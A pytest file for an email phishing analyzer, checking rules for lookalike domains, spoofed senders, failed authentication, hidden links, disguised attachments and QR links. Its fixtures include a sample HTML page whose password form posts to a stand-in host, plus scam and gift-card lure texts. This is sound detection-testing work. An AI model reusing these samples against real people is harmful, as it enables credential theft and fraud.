"""One generated message per rule family: each rule fires where it should, with its reason."""

from __future__ import annotations

import io

import pytest

from phalanx.config.mail import MailSettings
from phalanx.mail.analyze import analyze
from phalanx.mail.domains import lookalike_of, registrable_domain, skeleton
from phalanx.mail.urls import refang

from .factory import message, zip_bytes

ORG = MailSettings(organisation_domains=("uni.example",), organisation_names=("University",))


def rules(raw: bytes, settings: MailSettings = ORG) -> tuple[str, ...]:
    return analyze(raw, settings).rules


def test_ordinary_mail_is_clean() -> None:
    result = analyze(message("Shall we meet for lunch at noon on Friday?"), ORG)
    assert result.verdict == "clean" and result.rules == ()


def test_lookalike_and_punycode_of_the_organisation() -> None:
    assert lookalike_of("uni-example.com", ("uni.example",)) is None  # different label
    assert lookalike_of("unl.example", ("uni.example",)) is None  # too short to judge
    assert lookalike_of("examp1e-university.example", ("example-university.example",))
    assert skeleton("xn--pypal-4ve.com") == skeleton("pаypal.com")
    org = MailSettings(organisation_domains=("northfield.ac.uk",))
    raw = message("Please log in", sender="IT <it@northfie1d.ac.uk>")
    assert "header.org_lookalike_sender" in rules(raw, org)
    link = message("Read: https://www.northfeild.ac.uk/login", sender="a@b.example")
    assert "url.org_lookalike" in rules(link, org)
    assert "url.punycode" in rules(message("See http://xn--pypal-4ve.com/x"))


def test_display_name_impersonation() -> None:
    assert "header.org_display_name" in rules(
        message("hi", sender='"University IT Desk" <desk@mailer.example>')
    )
    brand = analyze(message("hi", sender='"PayPal Security" <alerts@gmail.com>'), ORG)
    assert "header.brand_display_name" in brand.rules
    assert any("free mailbox" in r for r in brand.reasons)
    spaced = message("hi", sender='"C o i n b a s e" <noreply@shop.example>')
    assert "header.brand_display_name" in rules(spaced)
    assert "header.brand_display_name" not in rules(
        message("hi", sender='"PayPal" <service@paypal.com>')
    )


def test_authentication_and_sender_mismatch() -> None:
    raw = message(
        "hello",
        sender="ceo@uni.example",
        headers={
            "Authentication-Results": "mx.uni.example; spf=fail; dkim=none; dmarc=fail",
            "Reply-To": "ceo.private@gmail.com",
        },
    )
    fired = rules(raw)
    assert {"auth.dmarc_fail", "auth.spf_fail", "header.reply_to_mismatch"} <= set(fired)


def test_links_defanged_hidden_mismatched_and_shortened() -> None:
    assert refang("hxxps://evil[.]example/a") == "https://evil.example/a"
    defanged = analyze(message("go to hxxp://evil[.]example/login now"), ORG)
    assert "http://evil.example/login" in defanged.indicators.urls
    html = (
        '<p><a href="http://203.0.113.9/login">https://www.uni.example/login</a></p>'
        '<a style="display:none" href="http://hidden.example/">x</a>'
        '<a href="https://bit.ly/abc">here</a>'
    )
    fired = rules(message("see below", html=html))
    assert {"url.text_mismatch", "url.ip_host", "url.hidden_link", "url.shortener"} <= set(fired)


def test_credential_form_in_html_attachment() -> None:
    page = (
        b"<html><body><form action='https://collect.example/p.php'>"
        b"<input name=email><input type='password' name=pw></form>"
        b"<script>window.location='https://x.example'</script></body></html>"
    )
    result = analyze(message("Your invoice", attachments=[("invoice.html", page)]), ORG)
    assert {"attachment.html_password_form", "attachment.html_redirect"} <= set(result.rules)
    assert result.verdict == "malicious" and result.category == "credential_phishing"


def test_executables_archives_and_disguised_types() -> None:
    exe = b"MZ\x90\x00" + b"\x00" * 200
    direct = analyze(message("run me", attachments=[("setup.exe", exe)]), ORG)
    assert direct.verdict == "malicious" and direct.category == "malware"
    assert direct.indicators.attachments[0].type == "pe"
    disguised = rules(message("scan", attachments=[("scan.pdf", exe)]))
    assert "attachment.type_mismatch" in disguised
    zipped = rules(message("docs", attachments=[("docs.zip", zip_bytes({"doc.pdf.js": b"x"}))]))
    assert {"attachment.executable", "attachment.double_extension"} <= set(zipped)


def test_callback_covid_bec_and_scam_lures() -> None:
    callback = analyze(
        message(
            "Your Norton subscription was renewed for $399.99. If you did not authorize this, "
            "call our billing support at +1 (808) 555-0199 to cancel the order."
        ),
        ORG,
    )
    assert "lure.callback" in callback.rules and callback.verdict != "clean"
    covid = rules(message("Book your COVID-19 vaccine booster dose: http://vax.example/book"))
    assert "lure.covid" in covid
    bec = analyze(
        message(
            "Are you available? I need you to purchase gift cards for a client, keep this "
            "confidential.",
            sender="Principal <principal.uni@gmail.com>",
        ),
        ORG,
    )
    assert bec.category == "bec" and bec.verdict != "clean"


def test_registrable_domain() -> None:
    assert registrable_domain("a.b.northfield.ac.uk") == "northfield.ac.uk"
    assert registrable_domain("login.evil.example") == "evil.example"
    assert registrable_domain("203.0.113.9") == "203.0.113.9"


def test_to_dict_is_json_shaped() -> None:
    data = analyze(message("hi", attachments=[("a.txt", b"hello")]), ORG).to_dict()
    assert data["indicators"]["attachments"][0] == {
        "name": "a.txt",
        "sha256": "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
        "type": "text",
    }
    assert isinstance(data["date"], str) and data["error"] is None


def test_qr_code_link_in_an_image() -> None:
    zxingcpp = pytest.importorskip("zxingcpp")
    image_module = pytest.importorskip("PIL.Image")
    numpy = pytest.importorskip("numpy")
    code = zxingcpp.create_barcode("https://login.evil.example/x", zxingcpp.BarcodeFormat.QRCode)
    buffer = io.BytesIO()
    image_module.fromarray(numpy.asarray(zxingcpp.write_barcode_to_image(code, scale=4))).save(
        buffer, "PNG"
    )
    result = analyze(
        message("Scan to keep your mailbox", attachments=[("scan.png", buffer.getvalue())]), ORG
    )
    assert "attachment.qr_link" in result.rules
    assert "https://login.evil.example/x" in result.indicators.urls
